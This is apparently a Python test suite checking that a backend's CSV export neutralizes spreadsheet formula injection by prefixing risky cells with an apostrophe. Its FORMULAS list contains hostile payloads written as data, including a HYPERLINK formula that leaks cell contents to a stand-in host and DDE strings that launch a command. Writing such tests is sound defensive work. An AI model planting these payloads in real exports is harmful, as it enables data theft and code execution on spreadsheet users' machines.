"""What a spreadsheet opens is data: no text of a stream or alias of a query is calculated there."""

from __future__ import annotations

import csv
import io
import json
import math

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from backend.live.results.downloads import as_text, to_csv, to_json
from backend.live.results.newest import Results

FORMULAS = (
    "=1+1",
    '=HYPERLINK("http://evil.test/?"&A1)',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1,1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "  =1+1",
    "\u00a0=1",
    "\uff1d1+1",
    "\uff0b1",
    "-",
    "--1",
    "+1+1",
    "-1.5.2",
    "=",
    "@",
)
NUMBERS = ("-1.5", "+2", "-0", "-.5", "1e-5", "-1E+10", "+0.0")
PLAIN = ("", "UA 12", "it's", "a=b", "a-b", "JFK", "2013-01-01T00:00:00Z", "1+1", "'=1")


def _table(rows: list[dict[str, object]], column: str = "c") -> Results:
    return Results(((column, "string"),), tuple(rows), ("1-1",) * len(rows), (0,) * len(rows))


def _read(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_is_text(text: str) -> None:
    assert _read(to_csv(_table([{"c": text}])))[1] == [f"'{text}"]
    assert _read(to_csv(_table([], text)))[0] == [f"'{text}"]


@pytest.mark.parametrize("text", [*NUMBERS, *PLAIN[1:]])
def test_what_is_none_stays(text: str) -> None:
    assert _read(to_csv(_table([{"c": text}])))[1] == [text]


@given(st.floats(allow_nan=False, allow_infinity=False) | st.integers())
@example(-1.5)
@example(-1e-300)
def test_numbers_stay_numbers(number: float) -> None:
    (written,) = _read(to_csv(_table([{"c": number}])))[1]
    assert float(written) == number or math.isclose(float(written), number)
    assert as_text(number) == number
    assert as_text(repr(number)) == repr(number)


@given(st.text())
def test_no_text_is_calculated_and_none_is_lost(text: str) -> None:
    (written,) = _read(to_csv(_table([{"c": text}])))[1] or [""]
    assert written in (text, f"'{text}")
    stripped = written.lstrip()
    if stripped[:1] in tuple("=+-@\uff1d\uff0b\uff0d\uff20"):
        float(stripped)


@pytest.mark.parametrize("text", FORMULAS)
def test_json_is_left_alone(text: str) -> None:
    assert json.loads(to_json(_table([{"c": text}]))) == {"c": text}
